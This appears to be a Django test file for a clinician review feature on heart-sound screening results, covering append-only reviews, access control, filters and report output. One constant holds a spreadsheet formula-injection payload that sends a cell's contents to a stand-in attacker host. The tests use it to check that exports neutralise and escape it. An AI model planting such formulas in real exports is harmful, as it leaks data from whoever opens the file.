"""Clinicians' reviews: confirm or override a recording's label with a note; every action a new
row; filters and previous/next on the pages; reviews in the API and the reports."""

import csv
import io
import json
from typing import Any

import pytest
from django.db import DatabaseError, transaction
from django.test import Client
from rest_framework.test import APIClient

from jobs import storage
from jobs.models import Batch, Prediction, Recording, Report, Review
from jobs.services import reviews
from jobs.services.reports import write_reports
from tests import factories
from tests.web.builders import screening_model

pytestmark = pytest.mark.django_db

FORMULA_NOTE = '=HYPERLINK("http://attacker.example/?"&A1,"open")'


def predicted(batch: Batch, path: str, *, abnormal: float, truth: str = "", **fields: Any) -> Recording:
    recording = factories.RecordingFactory(batch=batch, path=path, duration_s=20.0, label=truth)
    recording.analyses.create(batch=batch, status="done")
    factories.PredictionFactory(recording=recording, raw_probability=abnormal, **fields)
    return recording


@pytest.fixture
def ward(organisation: Any, member: Any) -> dict[str, Any]:
    """A finished batch: abnormal (truth normal), normal, uncertain, unusable, normal (truth abnormal)."""
    batch = factories.BatchFactory(
        organisation=organisation,
        created_by=member,
        model_version=screening_model(),
        status=Batch.Status.COMPLETED,
        name="Ward round",
    )
    return {
        "batch": batch,
        "abnormal": predicted(batch, "a-abnormal.wav", abnormal=0.8, truth="normal"),
        "normal": predicted(batch, "b-normal.wav", abnormal=0.2, truth="normal"),
        "uncertain": predicted(
            batch, "c-uncertain.wav", abnormal=0.55, truth="abnormal", decision="uncertain"
        ),
        "unusable": predicted(
            batch,
            "d-unusable.wav",
            abnormal=0.7,
            truth="normal",
            quality="unusable",
            quality_reasons=["noise"],
        ),
        "missed": predicted(batch, "e-missed.wav", abnormal=0.3, truth="abnormal"),
    }


def api_client(user: Any) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


def listed(client: Client, batch: Batch, **query: str) -> list[str]:
    body = client.get(f"/batches/{batch.pk}/", query).content.decode()
    if "<tbody>" not in body:
        return []
    rows = body.split("<tbody>")[1].split("</tbody>")[0]
    return [row.split('class="path"')[1].split(">")[1].split("<")[0] for row in rows.split("<tr>")[1:]]


def test_it_records_a_members_review_on_the_page_and_keeps_the_prediction(
    member_client: Client, member: Any, ward: dict[str, Any]
) -> None:
    recording, batch = ward["abnormal"], ward["batch"]
    page = member_client.get(f"/recordings/{recording.pk}/", {"batch": batch.pk}).content.decode()
    assert "csrfmiddlewaretoken" in page and "Not reviewed yet." in page
    assert 'for="id_note"' in page and "Confirm the model&#x27;s result: abnormal" in page
    assert "Override with normal" in page

    answer = member_client.post(
        f"/recordings/{recording.pk}/review?batch={batch.pk}",
        {"verdict": "normal", "note": "The murmur is a rub of the stethoscope."},
    )

    assert answer.status_code == 302
    review = Review.objects.get(recording=recording)
    assert (review.label, review.action, review.model_decision) == ("normal", "overridden", "abnormal")
    assert review.reviewed_by == member and review.reviewed_at is not None
    prediction = Prediction.objects.get(recording=recording)
    assert (prediction.label, prediction.decision) == ("abnormal", "abnormal")  # never overwritten
    page = member_client.get(answer["Location"]).content.decode()
    assert 'data-review-action="overridden"' in page and "the model said abnormal" in page
    assert "by clinician" in page and "rub of the stethoscope" in page


def test_it_keeps_every_review_action_as_a_new_row(member: Any, ward: dict[str, Any]) -> None:
    api = api_client(member)
    url = f"/api/v1/recordings/{ward['abnormal'].pk}/reviews/"

    first = api.post(url, {"confirm": True, "note": "listened twice"}, format="json")
    second = api.post(url, {"label": "normal", "note": "second opinion: innocent murmur"}, format="json")

    assert first.status_code == 201, first.json()
    assert (first.json()["label"], first.json()["action"]) == ("abnormal", "confirmed")
    assert second.status_code == 201 and second.json()["action"] == "overridden"
    assert second.json()["reviewed_by"] == "clinician"
    detail = api.get(f"/api/v1/recordings/{ward['abnormal'].pk}/").json()
    assert detail["review"]["id"] == second.json()["id"]
    assert [item["label"] for item in detail["reviews"]] == ["normal", "abnormal"]  # newest first
    assert [item["note"] for item in api.get(url).json()] == [
        "second opinion: innocent murmur",
        "listened twice",
    ]
    assert detail["predictions"][0]["model_label"] == "abnormal"
    # The trail is kept by the database itself: a review row is never changed.
    with pytest.raises(DatabaseError, match="never changed"), transaction.atomic():
        Review.objects.filter(pk=first.json()["id"]).update(label="normal")
    row = api.get(f"/api/v1/batches/{ward['batch'].pk}/recordings/", {"review": "overridden"}).json()
    assert [item["path"] for item in row["results"]] == ["a-abnormal.wav"]
    assert row["results"][0]["review"]["label"] == "normal"
    assert row["results"][0]["review"]["reviewed_by"] == "clinician"


def test_it_answers_404_to_another_organisations_member(
    client: Client, outsider: Any, ward: dict[str, Any]
) -> None:
    recording = ward["abnormal"]
    api = api_client(outsider)
    client.force_login(outsider)

    answers = [
        api.post(f"/api/v1/recordings/{recording.pk}/reviews/", {"confirm": True}, format="json").status_code,
        api.get(f"/api/v1/recordings/{recording.pk}/reviews/").status_code,
        client.post(f"/recordings/{recording.pk}/review", {"verdict": "confirm"}).status_code,
    ]

    assert answers == [404, 404, 404]
    assert not Review.objects.exists()


def test_it_refuses_reviews_that_say_nothing_clear(member: Any, ward: dict[str, Any]) -> None:
    api = api_client(member)

    def post(recording: Recording, body: dict[str, Any]) -> tuple[int, str]:
        answer = api.post(f"/api/v1/recordings/{recording.pk}/reviews/", body, format="json")
        return answer.status_code, answer.json()["code"]

    assert post(ward["uncertain"], {"confirm": True}) == (409, "nothing_to_confirm")
    assert post(ward["abnormal"], {"label": "murmur"}) == (400, "unknown_label")
    assert post(ward["abnormal"], {"note": "no verdict"}) == (400, "confirm_or_label")
    assert post(ward["abnormal"], {"label": "normal", "confirm": True}) == (400, "confirm_or_label")
    assert post(ward["abnormal"], {"label": 1}) == (400, "invalid")
    staff = factories.UserFactory(username="operator", is_staff=True)  # sees everything, reviews nothing
    answer = api_client(staff).post(
        f"/api/v1/recordings/{ward['abnormal'].pk}/reviews/", {"confirm": True}, format="json"
    )
    assert (answer.status_code, answer.json()["code"]) == (403, "not_a_member")
    assert not Review.objects.exists()


def test_it_filters_the_batch_by_review_state(
    member_client: Client, member: Any, ward: dict[str, Any]
) -> None:
    batch = ward["batch"]
    assert listed(member_client, batch, review="needs_review") == [
        "a-abnormal.wav",
        "c-uncertain.wav",
        "d-unusable.wav",
    ]
    # Ground truth against the model's class; an unusable recording is given none.
    assert listed(member_client, batch, review="disagrees") == ["a-abnormal.wav", "e-missed.wav"]
    assert listed(member_client, batch, review="overridden") == []

    reviews.review_recording(member, ward["abnormal"], label="normal")
    reviews.review_recording(member, ward["uncertain"], label="abnormal")
    reviews.review_recording(member, ward["missed"], confirm=True)

    assert listed(member_client, batch, review="needs_review") == ["d-unusable.wav"]
    assert listed(member_client, batch, review="overridden") == ["a-abnormal.wav"]  # uncertain: labelled
    assert listed(member_client, batch, review="reviewed") == [
        "a-abnormal.wav",
        "c-uncertain.wav",
        "e-missed.wav",
    ]
    assert listed(member_client, batch, review="disagrees") == ["a-abnormal.wav", "e-missed.wav"]
    body = member_client.get(f"/batches/{batch.pk}/").content.decode()
    assert 'data-reviewed-count="3"' in body and 'data-overridden-count="1"' in body
    assert 'data-needs-review-count="1"' in body
    api = api_client(member).get(f"/api/v1/batches/{batch.pk}/recordings/", {"review": "needs_review"})
    assert [row["path"] for row in api.json()["results"]] == ["d-unusable.wav"]
    assert (
        api_client(member).get(f"/api/v1/batches/{batch.pk}/recordings/", {"review": "x"}).status_code == 400
    )


def test_it_goes_to_the_previous_and_next_recording_in_the_filter(
    member_client: Client, member: Any, ward: dict[str, Any]
) -> None:
    batch = ward["batch"]
    table = member_client.get(f"/batches/{batch.pk}/", {"review": "needs_review"}).content.decode()
    assert f"/recordings/{ward['uncertain'].pk}/?batch={batch.pk}&amp;review=needs_review" in table
    query = {"batch": batch.pk, "review": "needs_review"}

    page = member_client.get(f"/recordings/{ward['uncertain'].pk}/", query).content.decode()

    assert f"/recordings/{ward['abnormal'].pk}/?batch={batch.pk}&amp;review=needs_review" in page
    assert f"/recordings/{ward['unusable'].pk}/?batch={batch.pk}&amp;review=needs_review" in page
    assert f"/recordings/{ward['normal'].pk}/" not in page  # not in the filter

    # Saving and going on: the reviewed recording leaves the filter, the next one is still next.
    answer = member_client.post(
        f"/recordings/{ward['uncertain'].pk}/review?batch={batch.pk}&review=needs_review",
        {"verdict": "abnormal", "then": "next"},
    )
    assert answer.status_code == 302
    assert answer["Location"] == f"/recordings/{ward['unusable'].pk}/?batch={batch.pk}&review=needs_review"
    page = member_client.get(answer["Location"]).content.decode()
    assert "data-previous" in page and f"/recordings/{ward['abnormal'].pk}/" in page
    assert "data-next" not in page  # the last one in the filter
    # Sorted by confidence, descending: the order of the batch page.
    sorted_page = member_client.get(
        f"/recordings/{ward['normal'].pk}/", {"batch": batch.pk, "sort": "-confidence"}
    ).content.decode()
    assert f"/recordings/{ward['abnormal'].pk}/?batch={batch.pk}&amp;sort=-confidence" in sorted_page


def test_it_puts_reviews_in_the_reports_without_changing_the_models_figures(
    member: Any, ward: dict[str, Any]
) -> None:
    batch = ward["batch"]
    write_reports(batch.pk)
    before = Report.objects.get(batch=batch, format="json").summary

    reviews.review_recording(member, ward["abnormal"], label="normal", note=FORMULA_NOTE)
    reviews.review_recording(member, ward["unusable"], confirm=True, note="-2 dB: re-record")
    rows, summary, page = reports_of(batch)

    assert summary["metrics"] == before["metrics"] and summary["counts"] == before["counts"]
    assert summary["reviews"] == {"reviewed": 2, "overridden": 1}
    by_path = {row["path"]: row for row in rows}
    overridden = by_path["a-abnormal.wav"]
    assert (overridden["label"], overridden["reviewed_label"], overridden["review_action"]) == (
        "abnormal",
        "normal",
        "overridden",
    )
    assert overridden["reviewed_by"] == "clinician" and overridden["reviewed_at"].startswith("20")
    assert overridden["review_note"] == "'" + FORMULA_NOTE  # neutralised for spreadsheets
    assert by_path["d-unusable.wav"]["review_note"] == "'-2 dB: re-record"
    assert by_path["d-unusable.wav"]["reviewed_label"] == "re-record"
    assert by_path["b-normal.wav"]["reviewed_label"] == "" and by_path["b-normal.wav"]["review_note"] == ""
    entries = {entry["path"]: entry for entry in summary["reviewed_recordings"]}
    assert entries["a-abnormal.wav"]["review_note"] == FORMULA_NOTE
    assert entries["a-abnormal.wav"]["model_decision"] == "abnormal"
    assert "2 recording(s) reviewed by a clinician, 1 overridden" in page
    assert "normal (overridden) by clinician" in page
    assert "&quot;http://attacker.example" in page  # escaped, not markup


def test_it_queues_the_reports_again_after_a_review(
    member: Any, ward: dict[str, Any], django_capture_on_commit_callbacks: Any
) -> None:
    write_reports(ward["batch"].pk)

    with django_capture_on_commit_callbacks() as callbacks:
        reviews.review_recording(member, ward["abnormal"], confirm=True)

    assert len(callbacks) == 1  # the batch's reports, written again by a worker


def reports_of(batch: Batch) -> tuple[list[dict[str, str]], dict[str, Any], str]:
    write_reports(batch.pk)
    stored = {
        report.format: storage.read_bytes(report.storage_key) for report in Report.objects.filter(batch=batch)
    }
    rows = list(csv.DictReader(io.StringIO(stored["csv"].decode(), newline="")))
    return rows, json.loads(stored["json"]), stored["html"].decode()
